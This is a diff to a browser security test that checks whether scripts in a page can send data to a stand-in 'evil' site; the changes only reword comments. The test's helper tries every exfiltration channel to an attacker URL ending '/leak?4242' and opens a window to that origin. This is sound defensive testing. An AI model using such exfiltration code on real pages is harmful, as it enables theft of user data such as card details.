@@ -36,7 +36,7 @@ test('S-49: a script in the page reaches nobody, but by leading away', async ({
   page,
 }) => {
   const evil = await openEvilSite()
-  // What is refused here is not for the operator's metric.
+  // Keeps the violations out of the operator's metric.
   await page.route('**/reports', (route) => route.fulfill({ status: 204 }))
   await page.goto('/c/x')
   const failed = await page.evaluate(tryEveryChannel, evil.origin)
@@ -71,7 +71,7 @@ test('S-49: a script in the page reaches nobody, but by leading away', async ({
     ])
   expect(evil.asked).toEqual([])
 
-  // A policy cannot forbid these two, which is why the card is never in the page.
+  // No policy can block these two, which is why the page never contains the card.
   const [opened] = await Promise.all([
     context.waitForEvent('page'),
     page.evaluate((url) => void window.open(`${url}/opened`), evil.origin),
@@ -89,7 +89,7 @@ declare global {
   }
 }
 
-/** Runs in the page: tries to send something by every way there is, and says how each failed that tells. */
+/** Runs in the page: tries every channel of exfiltration; returns the error of each that fails with one. */
 async function tryEveryChannel(evil: string): Promise<Record<string, string>> {
   const url = `${evil}/leak?4242`
   const failures: Record<string, string> = {}
